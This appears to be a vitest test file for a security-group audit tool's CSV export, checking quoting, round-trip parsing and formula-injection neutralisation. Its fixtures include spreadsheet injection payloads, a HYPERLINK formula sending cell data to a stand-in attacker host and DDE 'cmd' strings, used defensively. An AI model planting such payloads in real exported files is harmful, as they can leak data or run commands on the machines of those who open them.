/**
 * The rules as CSV (`--format csv`): exact rows for the fixture report, RFC 4180 quoting, formula
 * injection neutralised, and the file read back by an independent parser (csv-parse) equal to the
 * JSON report's numbers.
 */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvField, csvRows, neutraliseFormula, renderCsv, RULE_CSV_COLUMNS } from '../../src/report/csv.js';
import { renderReport } from '../../src/report/render.js';
import type { RuleReport } from '../../src/report/types.js';
import { buildReport, DB, finding } from './fixture.js';

/** Parses RFC 4180 text strictly: CRLF rows, every row as wide as the header. */
function parseCsv(text: string): string[][] {
  return parse(text, { record_delimiter: '\r\n', relax_column_count: false, bom: false }) as string[][];
}

describe('renderCsv', () => {
  test('writes a header and one row per rule in table order, with its change and finding types', () => {
    expect(renderCsv(buildReport()).split('\r\n')).toEqual([
      'group_id,group_name,rule_id,direction,protocol,from_port,to_port,peer,description,status,flows,packets,bytes,peers,peers_exact,first_seen,last_seen,top_peer,top_peer_flows,proposed_change,finding_types',
      'sg-0a1b2c3d4e5f60001,web,sgr-0000000000000001,ingress,tcp,22,22,0.0.0.0/0,ssh,used,1204,12040,4816000,2,true,2026-11-19T00:04:00Z,2026-11-21T23:58:00Z,198.51.100.23,1000,"replace tcp 22 0.0.0.0/0 → 198.51.100.23/32, 198.51.100.24/32",open-admin-port',
      'sg-0a1b2c3d4e5f60001,web,sgr-0000000000000002,ingress,tcp,443,443,0.0.0.0/0,,used,52310,523100,209240000,4812,false,2026-11-19T00:04:00Z,2026-11-21T23:58:00Z,203.0.113.7,911,,',
      'sg-0a1b2c3d4e5f60001,web,sgr-0000000000000003,egress,all,-1,-1,0.0.0.0/0,,used,8001,80010,32004000,37,true,2026-11-19T00:04:00Z,2026-11-21T23:58:00Z,10.0.2.15,3400,,',
      'sg-0a1b2c3d4e5f60002,db,sgr-0000000000000006,ingress,tcp,0,65535,10.0.0.0/8,,used,120,1200,480000,3,true,2026-11-19T00:04:00Z,2026-11-21T23:58:00Z,10.0.3.4,80,"replace tcp 0-65535 10.0.0.0/8 → tcp 5432, tcp 6432",broad-ports',
      'sg-0a1b2c3d4e5f60002,db,sgr-0000000000000005,ingress,tcp,3306,3306,10.0.0.0/8,,unused,0,0,0,0,true,,,,,remove tcp 3306 10.0.0.0/8,unused-rule',
      'sg-0a1b2c3d4e5f60002,db,sgr-0000000000000004,ingress,tcp,5432,5432,sg-0a1b2c3d4e5f60001,,used,3400,34000,13600000,2,true,2026-11-19T00:04:00Z,2026-11-21T23:58:00Z,10.0.1.10,2000,,',
      'sg-0a1b2c3d4e5f60003,legacy,sgr-0000000000000009,ingress,tcp,6379,6379,0.0.0.0/0,,unknown,0,0,0,0,true,,,,,,open-high-risk-port',
      'sg-0a1b2c3d4e5f60003,legacy,sgr-0000000000000008,ingress,tcp,8080,8080,10.1.0.0/16,,unknown,0,0,0,0,true,,,,,,unused-rule (suppressed)',
      'sg-0a1b2c3d4e5f60003,legacy,sgr-0000000000000007,ingress,udp,161,161,pl-0123456789abcdef0,,unknown,0,0,0,0,true,,,,,,',
      '',
    ]);
  });

  test('is what --format csv renders', () => {
    expect(renderReport(buildReport(), 'csv')).toBe(renderCsv(buildReport()));
  });

  test('gives the same file whatever order the rules and findings come in', () => {
    const report = buildReport();
    const shuffled = buildReport();
    shuffled.rules.reverse();
    shuffled.findings.reverse();
    expect(renderCsv(shuffled)).toBe(renderCsv(report));
  });

  test('lists every finding type about a rule once, worst first, and the one change proposed for it', () => {
    const report = buildReport();
    const proposal = report.findings.find((f) => f.id === 'f-unused-3306')?.proposal;
    report.findings.push(
      finding({
        id: 'f-3306-broad',
        type: 'broad-source',
        severity: 'low',
        groupId: DB,
        ruleId: 'sgr-0000000000000005',
        title: 'Source of tcp 3306 is wide',
        ...(proposal ? { proposal } : {}),
      }),
      finding({
        id: 'f-3306-unused-again',
        type: 'unused-rule',
        severity: 'medium',
        groupId: DB,
        ruleId: 'sgr-0000000000000005',
        title: 'Rule unused for 3 days',
      }),
    );
    const row = parseCsv(renderCsv(report)).find((cells) => cells[2] === 'sgr-0000000000000005');
    expect(row?.slice(-2)).toEqual(['remove tcp 3306 10.0.0.0/8', 'unused-rule broad-source']);
  });

  test('reads back with csv-parse equal to the JSON report, injection strings neutralised', () => {
    const report = buildReport();
    const [ssh, https, egress] = report.rules as [RuleReport, RuleReport, RuleReport];
    ssh.description = '=HYPERLINK("http://attacker.invalid/?"&A1,"Click, for details")';
    https.description = "+cmd|' /C calc'!A0";
    https.groupName = "@SUM(1+1)*cmd|' /C calc'!A0";
    egress.description = '-2+3\r\nsecond line\tand a tab';
    report.rules[3]!.description = '\t=1+1';
    report.rules[4]!.description = 'line one\nline two, with "quotes"';

    const [header, ...rows] = parseCsv(renderCsv(report));
    expect(header).toEqual([...RULE_CSV_COLUMNS]);
    expect(rows).toHaveLength(report.rules.length);
    const column = (name: (typeof RULE_CSV_COLUMNS)[number]) => RULE_CSV_COLUMNS.indexOf(name);
    for (const rule of report.rules) {
      const row = rows.find((cells) => cells[column('rule_id')] === rule.ruleId);
      if (!row) throw new Error(`no row for ${rule.ruleId}`);
      expect({
        groupId: row[column('group_id')],
        fromPort: Number(row[column('from_port')]),
        toPort: Number(row[column('to_port')]),
        flows: Number(row[column('flows')]),
        packets: Number(row[column('packets')]),
        bytes: Number(row[column('bytes')]),
        peers: Number(row[column('peers')]),
        status: row[column('status')],
        firstSeen: row[column('first_seen')],
        topPeer: row[column('top_peer')],
      }).toEqual({
        groupId: rule.groupId,
        fromPort: rule.fromPort,
        toPort: rule.toPort,
        flows: rule.usage.flows,
        packets: rule.usage.packets,
        bytes: rule.usage.bytes,
        peers: rule.usage.peers,
        status: rule.status,
        firstSeen: rule.usage.firstSeen ?? '',
        topPeer: rule.usage.topPeers[0]?.address ?? '',
      });
      // A text cell comes back as written, behind a quote when a spreadsheet would run it.
      const description = rule.description ?? '';
      expect(row[column('description')]).toBe(
        /^[=+\-@\t\r]/.test(description) ? `'${description}` : description,
      );
      expect(row[column('group_name')]).toBe(
        /^[=+\-@\t\r]/.test(rule.groupName) ? `'${rule.groupName}` : rule.groupName,
      );
    }
    expect(rows.map((cells) => cells[column('description')])).toContain(
      `'=HYPERLINK("http://attacker.invalid/?"&A1,"Click, for details")`,
    );
    // Ports of protocols without ports stay the number -1, not text.
    expect(rows.find((cells) => cells[column('rule_id')] === egress.ruleId)?.[column('from_port')]).toBe(
      '-1',
    );
  });
});

describe('CSV fields', () => {
  test('quote a comma, a quote, CR or LF and double the quotes, and leave other text bare', () => {
    expect(
      ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rhere', 'crlf\r\n', '', ' spaced ', 'é→'].map(csvField),
    ).toEqual([
      'plain',
      '"a,b"',
      '"say ""hi"""',
      '"two\nlines"',
      '"cr\rhere"',
      '"crlf\r\n"',
      '',
      ' spaced ',
      'é→',
    ]);
  });

  test('put a quote before text a spreadsheet would run as a formula, not before numbers', () => {
    expect(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', 'a=1', "'quoted"].map(neutraliseFormula)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      "'\rx",
      'a=1',
      "'quoted",
    ]);
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField('=A1,"b"')).toBe(`"'=A1,""b"""`);
    expect([-1, 0, 65535, Number.NaN].map(csvField)).toEqual(['-1', '0', '65535', '']);
  });

  test('any text survives a round trip through csv-parse, neutralised', () => {
    const cell = fc.string({
      unit: fc.constantFrom('a', 'Z', ',', '"', '\r', '\n', '\t', '=', '-', '+', '@', ' ', 'é'),
    });
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 2, maxLength: 5 }), { minLength: 1, maxLength: 6 }),
        (rows) => {
          const width = rows[0]?.length ?? 0;
          const table = rows.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ''));
          expect(parseCsv(csvRows(table))).toEqual(table.map((row) => row.map(neutraliseFormula)));
        },
      ),
      { numRuns: 300 },
    );
  });
});
